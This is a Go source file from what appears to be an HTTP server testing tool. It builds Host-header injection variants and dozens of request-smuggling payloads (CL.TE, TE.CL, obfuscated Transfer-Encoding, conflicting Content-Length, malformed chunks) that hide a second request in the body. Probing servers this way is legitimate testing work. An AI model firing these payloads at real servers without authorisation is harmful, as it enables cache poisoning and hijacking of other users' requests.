package attacks

import (
	"fmt"
	"strings"
)

// onHost names another host.
func onHost(value string) change {
	return change{"9", "Host: " + value, func(r *request, mark string) {
		r.set("Host", strings.NewReplacer("HOST", r.get("Host"), "MARK", mark).Replace(value))
	}}
}

var hostChanges = []change{
	onHost("MARK.example"), onHost("HOST."), onHost("HOST:80"), onHost("HOST:443"), onHost("HOST:MARK"), onHost("HOST:"), onHost("HOST:080"),
	onHost("HOST:99999"), onHost("HOST:-1"), onHost("HOST@MARK.example"), onHost("MARK@HOST"), onHost("HOST/MARK"), onHost("HOST?MARK"), onHost("HOST#MARK"),
	onHost(`HOST\MARK`), onHost("HOST,MARK.example"), onHost("HOST MARK"), onHost("HOST\tMARK"), onHost("HOST%00MARK"), onHost("[::1]"), onHost("[::1]:80"),
	onHost("[HOST]"), onHost("127.0.0.1"), onHost(""), onHost("."), onHost(".."), onHost("*.example"), onHost("xn--HOST"), onHost("ＨＯＳＴ"), onHost("HOST\x7f"),
	onHost("HOST_"), onHost("HOST;MARK"), onHost("HOST!"), onHost("'HOST'"), onHost("http://HOST"), onHost("HOST:80:80"),
	{"9", "Host in upper case", func(r *request, _ string) { r.set("Host", strings.ToUpper(r.get("Host"))) }},
	{"9", "two Host, the other first", func(r *request, mark string) {
		r.fields = append([]field{{"Host", mark + ".example"}}, r.fields...)
	}},
	{"9", "two Host, the other last", func(r *request, mark string) { r.add("Host", mark+".example") }},
	{"9", "two Host, alike", func(r *request, _ string) { r.add("host", r.get("Host")) }},
	{"9", "Host folded", func(r *request, mark string) { r.set("Host", r.get("Host")+"\r\n "+mark) }},
	{"9", "the personality next door", func(r *request, _ string) { r.set("Host", "repeating.example") }},
}

// method sends the ordinary request with another one.
func method(name string) change {
	return change{"7.3", "method " + name, func(r *request, mark string) { r.method = name; r.add("X-M", mark) }}
}

// framed has a body and the fields that say how long it is. BODY in the fields is the
// body's length.
func framed(class, name, body string, fields ...field) change {
	return change{class, name, func(r *request, mark string) {
		r.body = strings.NewReplacer("MARK", mark, "HIDDEN", hiddenRequest(r, mark)).Replace(body)
		for _, f := range fields {
			r.add(f.name, strings.ReplaceAll(f.value, "BODY", fmt.Sprint(len(r.body))))
		}
	}}
}

// hiddenRequest is what an attacker would like the other side to take for a request.
func hiddenRequest(r *request, mark string) string {
	return "GET " + hidden + mark + " HTTP/1.1\r\nHost: " + r.get("Host") + "\r\nX-Ignore: "
}

// chunked is a body as chunks.
const chunked = "8\r\nref=MAR1\r\n0\r\n\r\n"

var bodyChanges = []change{
	framed("7.1", "a body", "ref=MARK&id=MARK", field{"Content-Length", "BODY"}),
	framed("7.1", "a form", "ref=MARK&id=MARK&_method=POST", field{"Content-Type", "application/x-www-form-urlencoded"}, field{"Content-Length", "BODY"}),
	framed("7.1", "a chunked body", chunked, field{"Transfer-Encoding", "chunked"}),
	framed("7.1", "a body and an override", "ref=MARK", field{"Content-Length", "BODY"}, field{"X-HTTP-Method-Override", "POST"}),
	framed("7.1", "an empty body", "", field{"Content-Length", "0"}),
	framed("7.1", "an empty chunked body", "0\r\n\r\n", field{"Transfer-Encoding", "chunked"}),
	framed("7.1", "a type without a body", "", field{"Content-Type", "application/x-www-form-urlencoded"}),
	framed("7.4", "a request in the body", "HIDDEN", field{"Content-Length", "BODY"}),
	framed("7.4", "a request in a large body", strings.Repeat("x", 300_000)+"\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}),
	framed("7.4", "a request in the body, after asking for leave", "HIDDEN", field{"Content-Length", "BODY"}, field{"Expect", "100-continue"}),
	framed("13", "CL.TE", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "chunked"}),
	framed("13", "TE.CL", "5c\r\nHIDDEN\r\n0\r\n\r\n", field{"Content-Length", "4"}, field{"Transfer-Encoding", "chunked"}),
	framed("13", "CL.TE, TE first", "0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}, field{"Content-Length", "BODY"}),
	framed("13", "TE xchunked", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "xchunked"}),
	framed("13", "TE twice", "0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}, field{"Transfer-Encoding", "identity"}),
	framed("13", "TE chunked, identity", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "chunked, identity"}),
	framed("13", "TE identity", "HIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "identity"}),
	framed("13", "TE with a blank before the colon", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding ", "chunked"}),
	framed("13", "TE folded", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "\r\n chunked"}),
	framed("13", "TE with a tab", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "\tchunked"}),
	framed("13", "TE with a vertical tab", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "\x0bchunked"}),
	framed("13", "TE in quotes", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", `"chunked"`}),
	framed("13", "TE CHUNKED", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"Transfer-Encoding", "CHUNKED"}),
	framed("13", "TE hidden behind a CR", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"X", "x\rTransfer-Encoding: chunked"}),
	framed("13", "TE hidden behind a LF", "0\r\n\r\nHIDDEN", field{"Content-Length", "BODY"}, field{"X", "x\nTransfer-Encoding: chunked"}),
	framed("13", "two lengths", "HIDDEN", field{"Content-Length", "0"}, field{"Content-Length", "BODY"}),
	framed("13", "two equal lengths", "HIDDEN", field{"Content-Length", "BODY"}, field{"Content-Length", "BODY"}),
	framed("13", "a list of lengths", "HIDDEN", field{"Content-Length", "0, BODY"}),
	framed("13", "length +", "HIDDEN", field{"Content-Length", "+BODY"}),
	framed("13", "length -", "HIDDEN", field{"Content-Length", "-BODY"}),
	framed("13", "length 0x", "HIDDEN", field{"Content-Length", "0xBODY"}),
	framed("13", "length with a blank inside", "HIDDEN", field{"Content-Length", "0 BODY"}),
	framed("13", "an overflowing length", "HIDDEN", field{"Content-Length", "18446744073709551616"}),
	framed("13", "an empty length", "HIDDEN", field{"Content-Length", ""}),
	framed("13", "Content_Length", "HIDDEN", field{"Content_Length", "BODY"}),
	framed("13", "chunk extension with a line feed", "1;a\nb\r\nx\r\n0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "chunk ended by LF", "1\nx\n0\n\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "chunk size 0x", "0x1\r\nx\r\n0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "chunk size overflowing", "10000000000000001\r\nx\r\n0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "negative chunk size", "-1\r\nx\r\n0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "chunk longer than said", "1\r\nxx0\r\n\r\nHIDDEN", field{"Transfer-Encoding", "chunked"}),
	framed("13", "trailer Host", "0\r\nHost: MARK\r\nX-Forwarded-Host: MARK\r\n\r\n", field{"Transfer-Encoding", "chunked"}, field{"Trailer", "Host"}),
	{"7.1", "a body that breaks off", func(r *request, mark string) {
		r.body = "ref=" + mark
		r.add("Content-Length", "100")
		r.cut = true
	}},
	{"16", "gone before the answer", func(r *request, mark string) { r.add("X-Metachar", mark); r.cut = true }},
	{"7.1", "HTTP/1.0 and chunks", func(r *request, mark string) {
		r.version, r.body = "HTTP/1.0", "0\r\n\r\n"+hiddenRequest(r, mark)
		r.add("Transfer-Encoding", "chunked")
	}},
	method("HEAD"), method("POST"), method("OPTIONS"), method("PUT"), method("DELETE"), method("PATCH"), method("QUERY"), method("TRACE"), method("TRACK"),
	method("CONNECT"), method("get"), method("Get"), method("GET\t"), method("EVIL"), method("PURGE"), method("BAN"), method("PROPFIND"), method("M-SEARCH"),
	method("G\x00ET"), method(""), method("PRI"),
	framed("7.2", "QUERY with a body", "ref=MARK", field{"Content-Length", "BODY"}),
	{"7.2", "POST with a form", func(r *request, mark string) {
		r.method, r.body = "POST", "ref="+mark
		r.add("Content-Type", "application/x-www-form-urlencoded")
		r.add("Content-Length", fmt.Sprint(len(r.body)))
	}},
	{"7.3", "HEAD with a body", func(r *request, mark string) {
		r.method, r.body = "HEAD", hiddenRequest(r, mark)
		r.add("Content-Length", fmt.Sprint(len(r.body)))
	}},
}
